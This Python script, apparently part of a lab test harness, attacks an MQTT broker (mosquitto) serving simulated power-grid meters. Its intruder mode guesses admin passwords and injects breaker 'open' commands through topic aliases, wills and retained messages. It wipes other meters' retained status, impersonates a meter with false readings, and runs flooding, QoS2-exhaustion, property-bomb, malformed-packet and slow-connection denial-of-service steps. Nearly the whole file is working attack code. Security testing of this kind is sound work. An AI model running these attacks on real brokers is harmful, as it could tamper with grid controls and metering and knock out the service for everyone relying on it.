"""What can be done to a broker and to those who trust it: `mqtt_abuse.py intruder|meter|broker`.

`intruder` speaks to mosquitto over plain sockets, with the one weak login. `meter` is a meter (paho) whose identifier it takes.
`broker` is made by hand and knows one thing only: to send away who is connected when another comes with the same identifier, which
mosquitto does not say. Every loop is bounded.
"""

import socket
import struct
import sys
import time

import paho.mqtt.client as paho

import plan
from injection import COMMAND, await_silence, packet, text
from mqtt import PASSWORDS, Peer

QUIET = 0.1  # seconds without an answer after which the next packet goes out
IDLE = 75  # seconds in which a slow client says nothing
METER = "meter-4711"
HERE = "10.40.12.31"  # the broker made by hand
PORT = 2883
TELEMETRY = "grid/north/feeder12/meter/4711/telemetry"
PUBLISH, QOS1, QOS2, RETAIN = 0x30, 2, 4, 1
CONNECT, SUBSCRIBE, CONNACK = 0x10, 0x82, b"\x20\x02\0\0"


def long_packet(first: int, body: bytes) -> bytes:
    """A packet of up to 16,383 octets."""
    if len(body) < 128:
        return packet(first, body)
    return bytes((first, len(body) & 0x7F | 0x80, len(body) >> 7)) + body


def connect(
    client_id: str, *, level: int = 4, user: str | None = "guest", password: str = PASSWORDS["guest"],
    keep_alive: int = 30, properties: bytes = b"", will: bytes = b"", flags: int = 2,
) -> bytes:
    """Without a session that is kept; `will` is topic and message, at level 5 behind its properties."""
    head = text("MQTT") + struct.pack(">BBH", level, flags | (0xC0 if user else 0), keep_alive)
    if level == 5:
        head += length(len(properties)) + properties
    login = text(user) + text(password) if user else b""
    return long_packet(CONNECT, head + text(client_id) + will + login)


def length(octets: int) -> bytes:
    return bytes((octets,)) if octets < 128 else bytes((octets & 0x7F | 0x80, octets >> 7))


def publish(topic: str, payload: bytes, flags: int = 0, identifier: int = 0, properties: bytes | None = None) -> bytes:
    body = text(topic)
    if flags & (QOS1 | QOS2):
        body += struct.pack(">H", identifier)
    if properties is not None:
        body += length(len(properties)) + properties
    return long_packet(PUBLISH | flags, body + payload)


def alias(number: int) -> bytes:
    return b"\x23" + struct.pack(">H", number)


def talk(*packets: bytes, to: tuple[str, int] = (plan.BROKER, plan.MQTT_PORT)) -> None:
    """One connection: each packet once the answers to those before have come."""
    with socket.create_connection(to, timeout=QUIET) as link:
        for octets in packets:
            try:
                link.sendall(octets)
            except OSError:
                return  # the broker has hung up
            await_silence(link)


def logins() -> None:
    """Nobody; one password after the other, each under another identifier."""
    talk(connect("nobody", user=None))
    for number in range(12):
        talk(connect(f"sensor-{number:02}", user="admin", password=f"admin{number}"))


def roles() -> None:
    """Topics of commands in every place that a topic has: by name, by alias, as a will, as the place of an answer."""
    order = b'{"position":"open"}'
    talk(
        connect("probe-66", level=5),
        publish(COMMAND, order, properties=alias(3)),
        publish("", order, properties=alias(3)),
        publish("nobody/listens", b"", properties=b"\x08" + text(COMMAND)),
        packet(SUBSCRIBE, b"\0\x07\0" + text(COMMAND) + b"\0"),
    )
    # Set with retain, in the name of a will; then the connection breaks.
    talk(connect("probe-67", flags=0x26, will=text(COMMAND) + struct.pack(">H", len(order)) + order))


def retained() -> None:
    """A command that waits for whoever comes; and what others had left is taken away."""
    topics = [f"grid/north/feeder12/meter/47{number}/status" for number in range(11, 17)]
    talk(
        connect("probe-68"), publish(COMMAND, b'{"position":"open"}', RETAIN), publish(COMMAND, b"", RETAIN),
        *(publish(topic, b"", RETAIN) for topic in topics),
    )


def impostor() -> None:
    """The meter's name, and then its readings, too."""
    talk(connect(METER), *(publish(TELEMETRY, b'{"p_kw":0}') for _ in range(3)))


def aliases() -> None:
    for number in (0, 9, 11):
        talk(connect("probe-69", level=5), publish("", b"x", properties=alias(number)))


def exhaust() -> None:
    """Messages that are received and never released; their identifiers again; more than the broker takes."""
    talk(
        connect("probe-70"),
        *(publish("a", b"x", QOS2, number) for number in (1, 2, 3)),
        *(publish("a", b"x", QOS2, 1) for _ in range(4)),
    )
    many = [publish("a", b"x", QOS2, 1 + number, b"") for number in range(26)]
    talk(connect("probe-71", level=5), many[0], b"".join(many[1:]))


def flood() -> None:
    talk(connect("probe-72"), *(publish("a", b"x") * 340 for _ in range(3)))


def bombs() -> None:
    """User properties by the hundred, in the first packet and in others."""
    many = b"\x26\0\1a\0\1b" * 590
    talk(connect("probe-73", level=5, properties=many), long_packet(SUBSCRIBE, b"\0\x01" + length(len(many)) + many + text("a") + b"\0"))


def published_faults() -> None:
    talk(connect("probe-74"), CONNACK)  # what only a broker sends
    talk(publish("a" * 300, b"x" * 1500))  # no CONNECT before it, and large
    talk(connect("probe-75"), publish("", b"x"))  # no topic


def elsewhere() -> None:
    """At the broker made by hand: two of one name."""
    first = socket.create_connection((HERE, PORT), timeout=1)
    first.sendall(connect("probe-76", level=5))
    first.recv(99)
    talk(connect("probe-76", level=5), to=(HERE, PORT))
    first.recv(99)
    first.close()


def slow() -> None:
    """Connections that may be silent for ever."""
    links = []
    for number in range(6):
        link = socket.create_connection((plan.BROKER, plan.MQTT_PORT), timeout=1)
        link.sendall(connect(f"slow-{number}", keep_alive=0 if number % 2 else 65535))
        link.recv(99)
        links.append(link)
    time.sleep(IDLE)
    for link in links:
        link.shutdown(socket.SHUT_WR)


def attack() -> None:
    for step in (logins, roles, retained, impostor, aliases, exhaust, flood, bombs, published_faults, elsewhere, slow):
        step()


def run_meter() -> None:
    """Reads until another takes its name, and comes back."""
    for _ in range(2):
        peer = Peer(METER, paho.MQTTv311)
        peer.must_connect()
        for count in range(3):
            peer.client.publish(TELEMETRY, f'{{"p_kw":3.{count}}}')
            time.sleep(1)
        peer.client.loop_stop()
        peer.client.disconnect()


def run_broker() -> None:
    accepted, taken_over = b"\x20\x03\0\0\0", b"\xe0\x02\x8e\0"
    with socket.create_server((HERE, PORT)) as server:
        before = None
        for _ in range(2):
            link, _peer = server.accept()
            link.recv(999)
            if before:
                before.sendall(taken_over)
                before.close()
            link.sendall(accepted)
            before = link
        before.recv(99)
        time.sleep(1)


if __name__ == "__main__":
    {"intruder": attack, "meter": run_meter, "broker": run_broker}[sys.argv[1]]()
